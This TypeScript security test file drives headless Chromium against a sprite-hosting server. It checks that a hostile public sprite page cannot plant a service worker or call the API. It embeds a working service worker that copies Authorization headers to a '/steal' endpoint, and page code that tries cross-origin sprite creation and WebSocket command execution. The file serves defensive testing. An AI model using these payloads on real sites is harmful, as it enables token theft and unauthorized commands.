/**
 * A hostile public sprite page in a real browser (Debian's chromium through playwright-core) against an in-process
 * spritzer whose sprite serves HTTP through a loopback dial (test/support/loopback-sprite.ts). Whichever way the
 * operator opens it (the sprite's `url`, `/s/<name>/`, `<name>.localhost`), the page cannot register a service worker
 * that sees the inspector's requests (so the API token never reaches the sprite), and, with no `--token`, cannot
 * create a sprite or run a command through the API, neither over REST nor over the exec WebSocket.
 */
import http from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, afterEach, beforeAll, describe, expect, it } from 'vitest';
import { chromium, type Browser, type BrowserContext } from 'playwright-core';
import { api, startTestServer, TOKEN } from '../support/server.ts';
import { loopbackMachines } from '../support/loopback-sprite.ts';
import type { RunningServer } from '../../src/server/server.ts';

/** The hostile page: registers `sw.js` for the whole origin (`/`) and reports how that went in `window.outcome`. */
const PAGE = `<!doctype html><title>evil</title><script>
window.outcome = (async () => {
  try {
    const reg = await navigator.serviceWorker.register('sw.js', { scope: '/' });
    const worker = reg.installing || reg.waiting || reg.active;
    if (worker.state !== 'activated') await new Promise((r) => worker.addEventListener('statechange', () => worker.state === 'activated' && r()));
    return 'registered';
  } catch (e) {
    return 'refused: ' + e;
  }
})();
</script>`;

/** The worker: every request it sees that carries an Authorization header is copied to the sprite's `/steal`. */
const WORKER = `
self.addEventListener('install', () => self.skipWaiting());
self.addEventListener('activate', (e) => e.waitUntil(self.clients.claim()));
self.addEventListener('fetch', (e) => {
  const auth = e.request.headers.get('authorization');
  if (auth) e.waitUntil(fetch(new URL('steal', self.location.href), { method: 'POST', body: auth }));
});`;

let browser: Browser;
let hostile: http.Server;
/** Everything the hostile server received: method, path, headers and body. */
const received: string[] = [];

beforeAll(async () => {
  browser = await chromium.launch({
    executablePath: '/usr/bin/chromium',
    args: ['--headless', '--no-sandbox', '--disable-gpu', '--disable-quic', '--no-first-run', '--disable-background-networking', '--disable-component-update', '--disable-sync'],
  });
  hostile = http.createServer((req, res) => {
    let body = '';
    req.on('data', (c: Buffer) => (body += c.toString()));
    req.on('end', () => {
      received.push(`${req.method} ${req.url} ${JSON.stringify(req.headers)} ${body}`);
      if (req.url?.endsWith('sw.js')) {
        res.writeHead(200, { 'Content-Type': 'text/javascript', 'Service-Worker-Allowed': '/' });
        return void res.end(WORKER);
      }
      res.writeHead(200, { 'Content-Type': 'text/html' });
      res.end(PAGE);
    });
  });
  await new Promise<void>((r) => hostile.listen(0, '127.0.0.1', r));
});
afterAll(async () => {
  await browser?.close();
  hostile?.closeAllConnections();
  await new Promise((r) => hostile?.close(r));
});

/** Starts spritzer whose every sprite serves the hostile page, with a public sprite `evil` and a sprite `victim`. */
async function spritzerWithHostileSprite(token?: string): Promise<RunningServer> {
  const { machines, clock } = loopbackMachines((_sprite, port) => (port === 8080 ? (hostile.address() as AddressInfo).port : undefined));
  const srv = await startTestServer('shell', { clock, machines, ...(token ? { token } : {}) });
  const call = api(srv.url);
  expect((await call('POST', '/v1/sprites', { name: 'evil', url_settings: { auth: 'public' } })).status).toBe(201);
  expect((await call('POST', '/v1/sprites', { name: 'victim' })).status).toBe(201);
  return srv;
}

/** The three ways an operator may open sprite `evil`: its `url`, the path form and the host form. */
async function evilUrls(srv: RunningServer): Promise<Array<[string, string]>> {
  const port = new URL(srv.url).port;
  const url: string = (await api(srv.url)('GET', '/v1/sprites/evil')).json.url;
  expect(new URL(url).port).not.toBe(port); // an origin of its own, not spritzer's
  return [
    ['url', `${url}/`],
    ['path form', `${srv.url}/s/evil/`],
    ['host form', `http://evil.localhost:${port}/`],
  ];
}

describe('a hostile public sprite page and the inspector (under --token)', () => {
  let srv: RunningServer;
  let context: BrowserContext | undefined;
  beforeAll(async () => {
    srv = await spritzerWithHostileSprite(TOKEN);
  });
  afterEach(async () => {
    await context?.close();
    context = undefined;
  });
  afterAll(() => srv?.close());

  for (const form of ['url', 'path form', 'host form']) {
    it(`opened by its ${form}, it gets no worker over the inspector, and the token never reaches the sprite`, async () => {
      const [, evil] = (await evilUrls(srv)).find(([f]) => f === form)!;
      context = await browser.newContext();
      const page = await context.newPage();
      received.length = 0;
      await page.goto(evil);
      const outcome = await page.evaluate(() => (window as unknown as { outcome: Promise<string> }).outcome);
      // Then the operator opens the inspector in the same browser and gives it the token.
      const inspector = await context.newPage();
      await inspector.goto(`${srv.url}/_spritzer/ui/`);
      await inspector.locator('#token-form input[name=token]').fill(TOKEN);
      await inspector.locator('#token-form input[type=submit]').click();
      await inspector.locator('[data-sprite="victim"]').waitFor({ timeout: 5000 });
      await inspector.locator('[data-sprite="victim"]').click();
      await inspector.locator('#files').waitFor({ timeout: 5000 });
      // A worker the page registered would have copied those calls to /steal by now; its fetches end before
      // the worker's event does (waitUntil), and the inspector's calls above have all answered.
      await inspector.reload();
      await inspector.locator('[data-sprite="victim"]').waitFor({ timeout: 5000 });
      expect(received.filter((r) => r.includes(TOKEN))).toEqual([]);
      expect(received.filter((r) => r.includes('/steal'))).toEqual([]);
      // On spritzer's own origin the page's worker must not exist at all; on an origin of its own it is harmless.
      if (form === 'path form') expect(outcome).toMatch(/^refused/);
    });
  }
});

describe('a hostile public sprite page and the API (no --token)', () => {
  let srv: RunningServer;
  let context: BrowserContext | undefined;
  beforeAll(async () => {
    srv = await spritzerWithHostileSprite();
  });
  afterEach(async () => {
    await context?.close();
    context = undefined;
  });
  afterAll(() => srv?.close());

  for (const form of ['url', 'path form', 'host form']) {
    it(`opened by its ${form}, it can neither create a sprite (REST) nor run a command (exec WebSocket)`, async () => {
      const [, evil] = (await evilUrls(srv)).find(([f]) => f === form)!;
      context = await browser.newContext();
      const page = await context.newPage();
      await page.goto(evil);
      const name = `pwned-${form.replace(' ', '-')}`;
      const tried = await page.evaluate(
        async ({ base, name }) => {
          const out: Record<string, unknown> = {};
          try {
            const r = await fetch(`${base}/v1/sprites`, { method: 'POST', headers: { Authorization: 'Bearer x', 'Content-Type': 'application/json' }, body: JSON.stringify({ name }) });
            out.rest = r.status;
          } catch {
            out.rest = 'failed';
          }
          out.ws = await new Promise((resolve) => {
            const ws = new WebSocket(`${base.replace('http', 'ws')}/v1/sprites/victim/exec?cmd=echo&cmd=pwned&path=echo`, ['spritzer-ui', 'spritzer-token.eA']);
            ws.onmessage = () => resolve('ran');
            ws.onopen = () => resolve('open');
            ws.onerror = () => resolve('refused');
          });
          return out;
        },
        { base: srv.url, name },
      );
      expect(tried.ws).toBe('refused');
      expect([403, 'failed']).toContain(tried.rest);
      expect((await api(srv.url)('GET', `/v1/sprites/${name}`)).status).toBe(404);
    });
  }
});
